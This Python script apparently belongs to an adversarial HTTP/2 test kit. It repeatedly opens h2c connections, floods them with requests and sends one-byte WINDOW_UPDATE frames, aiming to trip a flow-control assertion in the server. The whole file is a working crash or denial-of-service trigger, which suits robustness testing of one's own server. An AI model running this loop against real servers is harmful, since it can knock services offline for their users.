"""Window assertion by WINDOW_UPDATE: the window is exactly the body, then grows.

RFC 9113 §6.9; the second way to the assertion of window_settings: a stream that has sent its last byte stands at window 0, its
frame is still in an unfinished write, and one more byte of window arrives.
"""
import itertools

from kit.frames import opening, request, window_update

LISTENER = "h2c"
GROWTH_MIB = 32
CONNECTIONS, STREAMS = 6, 400
BODIES = (16384, 10000, 3000)  # which streams are in the waiting write depends on how their frames fill it


def ask(enemy, body):
    """A connection on which more is asked for than the kernel takes, one request after the other."""
    connection = enemy.connect(receive_buffer=4096, segment=536)
    if connection is not None and enemy.push(connection, opening(initial_window_size=body) + window_update(0, 1 << 30), reads=False):
        for stream in range(1, 2 * STREAMS, 2):
            enemy.push(connection, request(stream, path=b"/open/bytes/%d" % body), reads=False)
    return connection


def attack(enemy):
    bodies = itertools.cycle(BODIES)
    more = b"".join(window_update(stream, 1) for stream in range(1, 2 * STREAMS, 2))
    while enemy.goes_on():
        asked = [connection for connection in (ask(enemy, next(bodies)) for _ in range(CONNECTIONS)) if connection is not None]
        enemy.rest(0.5)
        for connection in asked:
            enemy.push(connection, more, reads=False)
        enemy.rest(0.1)
        for connection in asked:
            enemy.note("waves")
            connection.close()
